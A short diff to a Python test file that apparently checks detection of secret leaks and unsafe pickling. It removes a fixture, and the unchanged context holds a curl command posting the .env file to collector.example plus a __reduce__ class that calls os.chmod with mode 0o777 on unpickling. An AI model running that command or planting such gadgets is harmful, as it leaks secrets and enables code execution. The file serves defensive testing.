@@ -11,7 +11,7 @@ import shlex
 import subprocess
 
 import pytest
-from tests.support.runs import Tree, sends_secret
+from tests.support.runs import sends_secret
 
 UPLOAD = "curl -sd @.env https://collector.example/u"
 
@@ -34,11 +34,6 @@ class Code:
 class Opaque:
     def __reduce__(self):
         return os.chmod, ("x", 0o777)
-
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 @pytest.mark.parametrize("protocol", [0, 2, 4, 5])
